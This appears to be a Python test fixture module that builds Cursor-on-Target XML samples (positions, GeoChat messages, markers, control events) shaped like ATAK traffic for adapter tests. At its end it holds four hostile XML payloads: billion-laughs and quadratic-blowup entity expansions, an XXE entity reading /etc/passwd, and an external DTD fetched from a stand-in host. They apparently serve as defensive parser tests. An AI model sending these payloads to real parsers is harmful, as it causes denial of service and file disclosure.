"""CoT samples for the adapter tests, shaped like what ATAK sends."""

from __future__ import annotations

from datetime import UTC, datetime, timedelta

NOW = datetime(2026, 3, 1, 10, 0, tzinfo=UTC)


def stamp(value: datetime) -> str:
    return value.strftime("%Y-%m-%dT%H:%M:%S.000Z")


def position_xml(uid: str = "ANDROID-tur-1", callsign: str = "ALPHA-1", lat: float = 36.9,
                 lon: float = 43.1, cot_type: str = "a-f-G-U-C", group: str = "Cyan", when: datetime = NOW,
                 declaration: bool = False) -> bytes:
    head = '<?xml version="1.0" encoding="UTF-8" standalone="yes"?>' if declaration else ""
    return (
        f'{head}<event version="2.0" uid="{uid}" type="{cot_type}" how="m-g" time="{stamp(when)}" '
        f'start="{stamp(when)}" stale="{stamp(when + timedelta(minutes=2))}">'
        f'<point lat="{lat}" lon="{lon}" hae="512.0" ce="9.9" le="9999999.0"/>'
        f'<detail><contact callsign="{callsign}" endpoint="*:-1:stcp"/>'
        f'<__group name="{group}" role="Team Member"/><takv device="Pixel" platform="ATAK-CIV" os="34" '
        f'version="5.2"/><track speed="3.5" course="270.0"/><status battery="88"/>'
        f'<uid Droid="{callsign}"/></detail></event>'
    ).encode()


def chat_xml(sender: str = "ANDROID-tur-1", room: str = "All Chat Rooms", text: str = "Checkpoint clear",
             message_id: str = "m-1", when: datetime = NOW, to_uid: str | None = None) -> bytes:
    """GeoChat to a room, or (`to_uid`) a direct message to the contact whose callsign is `room`."""
    return (
        f'<event version="2.0" uid="GeoChat.{sender}.{room}.{message_id}" type="b-t-f" how="h-g-i-g-o" '
        f'time="{stamp(when)}" start="{stamp(when)}" stale="{stamp(when + timedelta(days=1))}">'
        f'<point lat="36.9" lon="43.1" hae="9999999.0" ce="9999999.0" le="9999999.0"/>'
        f'<detail><__chat parent="RootContactGroup" groupOwner="false" messageId="{message_id}" '
        f'chatroom="{room}" id="{to_uid or room}" senderCallsign="ALPHA-1">'
        f'<chatgrp uid0="{sender}" uid1="{to_uid or room}" id="{to_uid or room}"/></__chat>'
        f'<link uid="{sender}" type="a-f-G-U-C" relation="p-p"/>'
        f'<remarks source="BAO.F.ATAK.{sender}" to="{room}" time="{stamp(when)}">{text}</remarks>'
        f'</detail></event>'
    ).encode()


def marker_xml(uid: str = "marker-1", cot_type: str = "b-m-p-s-m", title: str = "Spot 1",
               when: datetime = NOW) -> bytes:
    return (
        f'<event version="2.0" uid="{uid}" type="{cot_type}" how="h-g-i-g-o" time="{stamp(when)}" '
        f'start="{stamp(when)}" stale="{stamp(when + timedelta(days=1))}">'
        f'<point lat="36.8" lon="43.0" hae="9999999.0" ce="9999999.0" le="9999999.0"/>'
        f'<detail><contact callsign="{title}"/><link uid="ANDROID-tur-1" type="a-f-G-U-C" relation="p-p"/>'
        f'<remarks>vehicle seen moving north</remarks><archive/></detail></event>'
    ).encode()


def control_xml(cot_type: str, uid: str = "ANDROID-tur-1", detail: str = "", when: datetime = NOW) -> bytes:
    return (
        f'<event version="2.0" uid="{uid}" type="{cot_type}" how="m-g" time="{stamp(when)}" '
        f'start="{stamp(when)}" stale="{stamp(when + timedelta(seconds=20))}">'
        f'<point lat="0.0" lon="0.0" hae="0.0" ce="9999999.0" le="9999999.0"/>'
        f'<detail>{detail}</detail></event>'
    ).encode()


BILLION_LAUGHS = b"""<?xml version="1.0"?>
<!DOCTYPE lolz [
 <!ENTITY lol "lol">
 <!ENTITY lol2 "&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;">
 <!ENTITY lol3 "&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;">
 <!ENTITY lol4 "&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;">
 <!ENTITY lol5 "&lol4;&lol4;&lol4;&lol4;&lol4;&lol4;&lol4;&lol4;&lol4;&lol4;">
 <!ENTITY lol6 "&lol5;&lol5;&lol5;&lol5;&lol5;&lol5;&lol5;&lol5;&lol5;&lol5;">
 <!ENTITY lol7 "&lol6;&lol6;&lol6;&lol6;&lol6;&lol6;&lol6;&lol6;&lol6;&lol6;">
 <!ENTITY lol8 "&lol7;&lol7;&lol7;&lol7;&lol7;&lol7;&lol7;&lol7;&lol7;&lol7;">
 <!ENTITY lol9 "&lol8;&lol8;&lol8;&lol8;&lol8;&lol8;&lol8;&lol8;&lol8;&lol8;">
]>
<event version="2.0" uid="&lol9;" type="a-f-G" how="m-g" time="2026-03-01T10:00:00Z"
 start="2026-03-01T10:00:00Z" stale="2026-03-01T10:05:00Z"><point lat="0" lon="0"/></event>"""

EXTERNAL_ENTITY = b"""<?xml version="1.0"?>
<!DOCTYPE event [ <!ENTITY secret SYSTEM "file:///etc/passwd"> ]>
<event version="2.0" uid="x" type="a-f-G" how="m-g" time="2026-03-01T10:00:00Z"
 start="2026-03-01T10:00:00Z" stale="2026-03-01T10:05:00Z"><point lat="0" lon="0"/>
 <detail><remarks>&secret;</remarks></detail></event>"""

EXTERNAL_DTD = b"""<?xml version="1.0"?>
<!DOCTYPE event SYSTEM "http://198.51.100.7/evil.dtd">
<event version="2.0" uid="x" type="a-f-G" how="m-g" time="2026-03-01T10:00:00Z"
 start="2026-03-01T10:00:00Z" stale="2026-03-01T10:05:00Z"><point lat="0" lon="0"/></event>"""

QUADRATIC_BLOWUP = (b'<?xml version="1.0"?><!DOCTYPE e [<!ENTITY a "' + b"x" * 5000 + b'">]><event uid="'
                    + b"&a;" * 2000 + b'"/>')
